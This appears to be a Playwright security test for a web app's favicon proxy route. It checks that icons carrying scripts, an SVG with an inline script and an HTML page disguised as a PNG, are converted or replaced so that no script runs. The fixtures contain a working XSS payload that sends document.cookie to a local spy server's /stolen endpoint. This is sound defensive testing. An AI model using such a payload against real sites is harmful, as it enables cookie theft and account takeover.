import { expect, test } from "@playwright/test";
import { createFaviconHandler } from "@/lib/favicon/favicon-handler";
import { fetchFavicon } from "@/lib/favicon/fetch-favicon";
import { createGetFavicon } from "@/lib/favicon/get-favicon";
import { createRateLimiter } from "@/lib/http/rate-limiter";
import { securityHeaders, setDefaultsBeforeHead } from "@/lib/http/security-headers.mjs";
import { startLocalServer, type LocalServer } from "@/tests/fixtures/local-server";

// A company website whose icon carries a script, opened by someone who follows the icon's
// URL. The favicon route as production wires it (its handler behind server.mjs's headers),
// over stand-in company websites on 127.0.0.1 (the site resolves hostnames only over public
// DNS, so the stand-ins are reached by address here).

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

let stolen: string[] = [];
let sites: Record<string, LocalServer> = {};
let app: LocalServer;

const script = (site: string) =>
  `<script>document.title = "owned"; window.ran = true; fetch("${site}/stolen?" + document.cookie)</script>`;

test.beforeAll(async () => {
  const spy = await startLocalServer({
    "/stolen": (request, response) => {
      stolen.push(request.url!);
      response.writeHead(204, { "access-control-allow-origin": "*" }).end();
    },
  });
  const icon = (type: string, body: string) => ({ headers: { "content-type": type }, body });
  const page = (link: string) => icon("text/html", `<html><head>${link}</head></html>`);
  sites = {
    spy,
    "svg-with-script.example": await startLocalServer({
      "/": page(`<link rel="icon" href="/icon.svg">`),
      "/icon.svg": icon(
        "image/svg+xml",
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16">${script(spy.url)}<rect width="16" height="16" fill="red"/></svg>`,
      ),
    }),
    "page-as-png.example": await startLocalServer({
      "/": page(`<link rel="icon" href="/icon.png">`),
      "/icon.png": icon("image/png", `<!doctype html><html><body>${script(spy.url)}</body></html>`),
      "/favicon.ico": icon("image/x-icon", `<html>${script(spy.url)}</html>`),
    }),
  };
  const get = createFaviconHandler({
    getFavicon: createGetFavicon({
      storedHostname: async (host) => (host in sites ? host : null),
      iconOf: (host) => fetchFavicon(sites[host].url, { allowLoopback: true }),
    }),
    limiter: createRateLimiter({ limit: 1000, windowMs: 60_000 }),
    waitMs: 30_000, // the icon itself, however busy the machine
  });
  app = await startLocalServer({
    "/api/favicon": (request, response) => {
      setDefaultsBeforeHead(response, securityHeaders(request.url!, { https: false }));
      void get(new Request(`http://app${request.url}`)).then(async (answer) => {
        response.writeHead(answer.status, Object.fromEntries(answer.headers));
        response.end(Buffer.from(await answer.arrayBuffer()));
      });
    },
  });
});

test.afterAll(async () => {
  await Promise.all([app, ...Object.values(sites)].map((server) => server?.close()));
});

test.beforeEach(() => void (stolen = []));

test("an SVG icon with a script reaches the browser as a PNG, and its script never runs", async ({
  page,
  request,
}) => {
  const url = `${app.url}/api/favicon?host=svg-with-script.example`;
  const answer = await request.get(url);
  expect(answer.headers()["content-type"]).toBe("image/png");
  expect([...(await answer.body()).subarray(0, 8)]).toEqual(PNG_SIGNATURE);

  // An inline script runs before the load event that goto waits for.
  await page.goto(url);
  expect(await page.title()).not.toBe("owned");
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(stolen).toEqual([]);
});

test("a page served as image/png is replaced by the placeholder, and its script never runs", async ({
  page,
  request,
}) => {
  const url = `${app.url}/api/favicon?host=page-as-png.example`;
  const answer = await request.get(url, { maxRedirects: 0 });
  expect(answer.status()).toBe(307);
  expect(answer.headers()["location"]).toBe("/placeholder-logo.svg");

  // An inline script runs before the load event that goto waits for.
  await page.goto(url);
  expect(await page.title()).not.toBe("owned");
  expect(stolen).toEqual([]);
});
